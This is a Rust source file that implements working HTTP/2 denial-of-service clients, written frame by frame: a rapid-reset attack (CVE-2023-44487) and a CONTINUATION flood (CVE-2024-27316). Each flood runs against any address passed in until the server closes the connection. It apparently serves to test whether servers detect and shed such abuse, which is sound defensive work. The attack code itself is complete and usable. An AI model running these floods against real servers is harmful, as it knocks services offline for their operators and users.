//! HTTP/2 abuse, written frame by frame over cleartext HTTP/2 (h2c with prior knowledge):
//! a rapid-reset client (streams opened and cancelled at once, CVE-2023-44487) and a
//! CONTINUATION flood (one header block that never ends, CVE-2024-27316). Each abusive
//! connection writes until the server closes it, and reports how it was closed.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;
/// The GOAWAY error code a server sends when it sheds abuse.
pub const ENHANCE_YOUR_CALM: u32 = 0xb;
/// Bytes written per write call.
const BATCH: usize = 64 * 1024;

/// The kinds of abuse.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// HEADERS then RST_STREAM(CANCEL) on a new stream, again and again.
    RapidReset,
    /// HEADERS without END_HEADERS, then CONTINUATION frames of 100-byte headers forever.
    ContinuationFlood,
}

/// How the server dealt with one abusive connection.
#[derive(Clone, Copy, Debug)]
pub struct Outcome {
    /// The GOAWAY's error code, if one came.
    pub goaway: Option<u32>,
    /// Bytes written before the server closed the connection or stopped reading.
    pub sent: usize,
    /// From connecting to the server's close.
    pub closed_after: Duration,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// HPACK for `POST {path}` over http, without touching the dynamic table.
fn request_block(path: &str) -> Vec<u8> {
    let mut b = vec![0x83, 0x86]; // :method POST, :scheme http (static table)
    b.push(0x04); // :path, literal without indexing, name from the static table
    b.push(path.len().min(127) as u8);
    b.extend_from_slice(&path.as_bytes()[..path.len().min(127)]);
    b.push(0x01); // :authority
    b.push(9);
    b.extend_from_slice(b"127.0.0.1");
    b
}

impl Attack {
    /// The `i`-th frames of this attack on `path`.
    fn frames(self, path: &str) -> impl FnMut(usize) -> Vec<u8> {
        let block = request_block(path);
        // A literal header of 100 bytes, name not indexed: `x-a: bbbb…`.
        let mut header = vec![0x00, 3];
        header.extend_from_slice(b"x-a");
        header.push(100);
        header.extend_from_slice(&[b'b'; 100]);
        move |i| match self {
            Attack::RapidReset => {
                let stream = 2 * i as u32 + 1;
                let mut f = frame(HEADERS, END_HEADERS, stream, &block);
                f.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
                f
            }
            Attack::ContinuationFlood if i == 0 => frame(HEADERS, 0, 1, &block),
            Attack::ContinuationFlood => frame(CONTINUATION, 0, 1, &header),
        }
    }

    /// One abusive connection to `addr`: the preface, SETTINGS, then this attack's frames
    /// in 64 KiB batches until the server closes the connection or `limit` bytes have
    /// gone. Gives up waiting for the close after `patience`.
    pub async fn run(
        self,
        addr: SocketAddr,
        path: &str,
        limit: usize,
        patience: Duration,
    ) -> std::io::Result<Outcome> {
        let started = Instant::now();
        let tcp = TcpStream::connect(addr).await?;
        let (mut rx, mut tx) = tcp.into_split();
        let reader = tokio::spawn(async move {
            let mut buf = Vec::new();
            let mut chunk = [0u8; 16384];
            let mut goaway = None;
            while let Ok(n) = rx.read(&mut chunk).await {
                if n == 0 {
                    break;
                }
                buf.extend_from_slice(&chunk[..n]);
                while buf.len() >= 9 {
                    let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
                    if buf.len() < 9 + len {
                        break;
                    }
                    if buf[3] == GOAWAY && len >= 8 {
                        goaway = Some(u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]));
                    }
                    buf.drain(..9 + len);
                }
            }
            (goaway, started.elapsed())
        });
        let mut frames = self.frames(path);
        let mut sent = 0;
        let mut out = PREFACE.to_vec();
        out.extend(frame(SETTINGS, 0, 0, &[]));
        let mut i = 0;
        while sent < limit && !reader.is_finished() {
            while out.len() < BATCH {
                out.extend(frames(i));
                i += 1;
            }
            if tx.write_all(&out).await.is_err() {
                break;
            }
            sent += out.len();
            out.clear();
        }
        let closed = tokio::time::timeout(patience, reader).await;
        let (goaway, closed_after) = match closed {
            Ok(Ok(result)) => result,
            _ => (None, patience),
        };
        Ok(Outcome {
            goaway,
            sent,
            closed_after,
        })
    }
}
